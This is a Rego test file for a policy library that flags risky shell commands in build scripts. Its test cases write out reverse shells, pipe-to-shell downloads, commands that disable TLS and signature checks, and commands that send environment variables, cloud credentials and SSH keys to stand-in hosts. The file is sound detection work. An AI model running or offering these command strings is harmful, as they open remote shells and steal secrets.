package policies.lib.shell_test

import data.policies.lib.shell

test_run_downloads if {
	every script in [
		"curl -sSL https://example.com/a.sh | bash",
		"wget -qO- https://example.com/a | sudo -E sh -s",
		"curl https://example.com/a.py | python3 -",
		`sh -c "$(curl -fsSL https://example.com/a.sh)"`,
		"bash <(curl -s https://example.com/a.sh)",
		"iex ((New-Object Net.WebClient).DownloadString('https://example.com/a.ps1'))",
		"irm https://example.com/a.ps1 | iex",
		"deno run -A https://example.com/a.ts",
	] {
		count(shell.run_downloads(script)) > 0
	}
}

test_plain_downloads if {
	every script in [
		"curl -o a.sh https://example.com/a.sh && sha256sum -c a && sh a.sh",
		"curl https://example.com/a.json | python3 -m json.tool | tee a",
		"# curl https://example.com/a.sh | sh",
		"echo iex",
		3,
	] {
		shell.run_downloads(script) == set()
	}
}

test_reverse_shells if {
	every script in [
		"bash -i >& /dev/tcp/192.0.2.7/443 0>&1",
		"exec 5<>/dev/tcp/192.0.2.7/443; cat <&5 >/dev/tcp/x 2>&1",
		"nc -e /bin/sh 192.0.2.7 443",
		"nc 192.0.2.7 443 < secrets.txt",
		"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | nc host 443",
		"socat tcp:192.0.2.7:443 exec:/bin/bash",
		"/bin/nc -w 3 192.0.2.7 443",
		"nc.traditional -e /bin/sh host 443",
		"ncat host 443 --exec /bin/bash",
		`python3 -c 'import socket,os;s=socket.socket();s.connect(("192.0.2.7",443));os.dup2(s.fileno(),0)'`,
		`perl -e 'use Socket;socket(S,2,1,6);exec("/bin/sh -i");'`,
		"openssl s_client -quiet -connect 192.0.2.7:443 | /bin/sh",
		"xterm -display 192.0.2.7:1",
	] {
		count(shell.reverse_shells(script)) > 0
	}
	shell.reverse_shells("nc -z db 5432 && echo up") == set()
	shell.reverse_shells("nc -vz -w 5 192.0.2.7 5432") == set()
	shell.reverse_shells("nc 127.0.0.1 5432") == set()
	shell.reverse_shells(null) == set()
}

test_unchecked_transfers if {
	every script in [
		"curl -k https://example.com",
		"curl -sSLk https://example.com",
		"curl https://example.com --insecure -o x",
		"wget -q --no-check-certificate https://example.com/x",
		"pip install --trusted-host pypi.example.com x",
		"pip3 config set global.trusted-host pypi.example.com",
		"npm config set strict-ssl false",
		"yarn config set strict-ssl=false",
		"npm install --strict-ssl=false x",
		"git config --global http.sslVerify false",
		"git -c http.https://example.com.sslVerify=false clone x",
		"export GIT_SSL_NO_VERIFY=true",
		"apt-get install -y --allow-unauthenticated x",
		"apt-get --force-yes install x",
		`echo 'APT::Get::AllowUnauthenticated "true";' > /etc/apt/apt.conf.d/x`,
		`echo 'Acquire::https::Verify-Peer "false";' > x`,
		"echo 'deb [trusted=yes] https://example.com ./' > x",
		"yum -y install --nogpgcheck x",
		"dnf install --setopt=sslverify=false x",
		"zypper --no-gpg-checks install x",
		"sed -i 's/gpgcheck=1/gpgcheck=0/' x",
		"apk add --allow-untrusted x.apk",
		"rpm -i --nosignature x.rpm",
		"NODE_TLS_REJECT_UNAUTHORIZED=0 npm ci",
		"export PYTHONHTTPSVERIFY=0",
		"NPM_CONFIG_STRICT_SSL=false npm ci",
		"composer config -g secure-http false",
		"conda config --set ssl_verify false",
		"/usr/bin/curl -k https://example.com",
		"echo insecure >> ~/.curlrc",
		"echo 'check_certificate = off' >> ~/.wgetrc",
		`printf "[global]\ntrusted-host = packages.example.com" > /etc/pip.conf`,
		"uv pip install --allow-insecure-host packages.example.com x",
		"npm -g config set strict-ssl false",
		"npm set strict-ssl false",
		"yarn config set enableStrictSsl false",
		"echo strict-ssl=false >> .npmrc",
		`echo "APT::Get::AllowUnauthenticated \"true\";" > /etc/apt/apt.conf.d/x`,
		`echo "Acquire::https::Verify-Peer \"false\";" > x`,
		"aptitude install -y --allow-untrusted x",
		"zypper in -y --allow-unsigned-rpm x.rpm",
		"rpm -i --define '_pkgverify_level none' x.rpm",
		"dpkg -i --force-bad-verify x.deb",
		"echo 'SigLevel = Never' >> /etc/pacman.conf",
		"conda install --insecure x",
		"zypper ar 'https://example.com?ssl_verify=no' x",
		"poetry config certificates.x.cert false",
		"export GOSUMDB=off",
		"go env -w GOINSECURE=example.com",
		"mvn -Dmaven.wagon.http.ssl.insecure=true package",
		"kubectl --insecure-skip-tls-verify=true get pods",
		"aws s3 ls --no-verify-ssl",
		"svn co --trust-server-cert https://example.com/x",
		"skopeo copy --src-tls-verify=false docker://a docker://b",
		"aria2c --check-certificate=false https://example.com",
		"ssh -o StrictHostKeyChecking=no host ls",
		"echo 'StrictHostKeyChecking no' >> ~/.ssh/config",
		"iwr -SkipCertificateCheck https://example.com",
		"[Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}",
		"VAULT_SKIP_VERIFY=1 vault read x",
		"echo ':ssl_verify_mode: 0' > ~/.gemrc",
	] {
		count(shell.unchecked_transfers(script)) > 0
	}
}

test_checked_transfers if {
	every script in [
		"curl -fsSL https://example.com | tar -xk",
		"curl -fsSL -o x https://example.com/k && echo -k",
		"wget https://example.com",
		"pip install x",
		"npm config set strict-ssl true",
		"apt-get install -y x",
		"yum install -y x",
		"echo gpgcheck=1",
		"ANODE_TLS_REJECT_UNAUTHORIZED=0 make",
		"NODE_TLS_REJECT_UNAUTHORIZED=01 make",
		"# curl -k https://example.com",
		"ssh -o StrictHostKeyChecking=accept-new host ls",
		"podman pull --tls-verify=true x",
		"kubectl --insecure-skip-tls-verify=false get pods",
		"export GOSUMDB=sum.golang.org",
		"echo strict-ssl=true >> .npmrc",
		[],
	] {
		shell.unchecked_transfers(script) == set()
	}
}

test_variables_that_disable_checks if {
	shell.disables_checks("GIT_SSL_NO_VERIFY", 1)
	shell.disables_checks("NODE_TLS_REJECT_UNAUTHORIZED", "0")
	shell.disables_checks("npm_config_strict_ssl", false)
	shell.disables_checks("PIP_TRUSTED_HOST", "packages.example.com")
	shell.disables_checks("GOSUMDB", "off")
	shell.disables_checks("MAVEN_OPTS", "-Xmx1g -Dmaven.wagon.http.ssl.allowall=true")
	shell.disables_checks("GIT_SSH_COMMAND", "ssh -o StrictHostKeyChecking=no")
	not shell.disables_checks("GIT_SSH_COMMAND", "ssh -i key")
	not shell.disables_checks("PIP_TRUSTED_HOST", "")
	not shell.disables_checks("NODE_TLS_REJECT_UNAUTHORIZED", "1")
	not shell.disables_checks("GIT_SSL_NO_VERIFY", "0")
}

test_downloads_that_run_from_a_variable if {
	shell.run_variables("data=$(curl -s https://example.com/a)\neval \"$data\"") == {"data"}
	shell.run_variables("data=`wget -qO- https://example.com/a`; sh -c ${data}") == {"data"}
	shell.run_variables("data=$(curl -s https://example.com/a)\necho $data\neval $database") == set()
	shell.run_variables(7) == set()
}

test_downloads_that_run_from_a_file if {
	shell.run_files("curl -fsSL -o install.sh https://example.com/a\nbash install.sh") == {"install.sh"}
	shell.run_files("curl -L https://example.com/a > /tmp/setup.sh && /tmp/setup.sh") == {"setup.sh"}
	shell.run_files("wget https://example.com/get.py; python3 get.py") == {"get.py"}
	shell.run_files("wget https://example.com/get.sh\necho x | sha256sum -c && sh get.sh") == set()
	shell.run_files("curl -o install.sh https://example.com/a && cat install.sh") == set()
	shell.run_files("curl -o data.json https://example.com/a && sh build.sh") == set()
	shell.run_files(null) == set()
}

test_plain_downloads_of_other_hosts if {
	every script in [
		"wget http://example.com/a",
		"curl -o a ftp://example.com/a",
		"git clone git://example.com/a",
		"pip install --index-url http://example.com/simple x",
		"npm config set registry http://example.com",
		"rpm -i http://example.com/x.rpm",
		"iwr http://example.com/a -OutFile a",
		"(New-Object Net.WebClient).DownloadFile('http://example.com/a', 'a')",
	] {
		count(shell.plain_downloads(script)) == 1
	}
}

test_plain_downloads_of_the_own_network if {
	every script in [
		"curl https://example.com/a",
		"curl http://localhost:8080/health",
		"curl http://web:8080",
		"curl -f http://192.168.1.4/a",
		"curl http://$HOST/a",
		"curl -x http://proxy.example.com:3128 https://example.com",
		"npm config set proxy http://cache.example.com:3128",
		"curl http://web.default.svc.cluster.local/a",
		"git clone https://example.com/a",
		"# curl http://example.com",
		"echo http://example.com",
		1,
	] {
		shell.plain_downloads(script) == set()
	}
}

test_leaks if {
	every script in [
		"curl -X POST -d @x https://webhook.site/1",
		"env | curl -d @- https://example.com",
		"printenv | base64 | nc 192.0.2.7 80",
		"curl -d \"$(env)\" https://example.com",
		"curl --data \"$(cat ~/.aws/credentials)\" https://example.com",
		"curl -X POST --data \"$CI_JOB_JWT_V1\" https://example.com",
		"curl -d '${{ toJSON(secrets) }}' https://example.com",
		"curl -X POST -s --data \"@.secrets\" https://example.com",
		"curl -T ~/.ssh/id_rsa https://example.com",
		"curl -F \"a=$CI_REGISTRY_PASSWORD\" https://example.com",
		"curl https://example.com/?x=$CI_JOB_JWT",
	] {
		count(shell.leaks(script)) > 0
	}
}

test_requests_that_leak_nothing if {
	every script in [
		"curl -H \"Authorization: Bearer $TOKEN\" https://example.com",
		"curl --form token=$CI_JOB_TOKEN https://gitlab.example.com/api/v4/projects/1/trigger/pipeline",
		"env | sort",
		"curl -d @payload.json https://example.com",
		"curl -u user@example.com:x -d client_secret=x https://example.com",
		"# curl https://webhook.site/1",
		null,
	] {
		shell.leaks(script) == set()
	}
}

test_printed_secrets if {
	every script in [
		"echo $DB_PASSWORD",
		"make && echo \"token: ${API_TOKEN}\"",
		"Write-Host $env:CLIENT_SECRET",
		"echo $(npmToken)",
		"echo %NPM_TOKEN%",
		"printenv",
		"  env | sort",
	] {
		count(shell.printed_secrets(script)) == 1
	}
}

test_secrets_that_are_not_printed if {
	every script in [
		"echo $DB_PASSWORD | docker login --password-stdin",
		"echo \"$DEPLOY_KEY\" > ~/.ssh/id",
		"echo '$DB_PASSWORD'",
		"echo \"::add-mask::$API_TOKEN\"",
		"echo ${API_TOKEN:+set}",
		"echo $HOME",
		"X=$(echo $API_TOKEN)",
		"# echo $API_TOKEN",
		"env FOO=1 make",
		false,
	] {
		shell.printed_secrets(script) == set()
	}
}
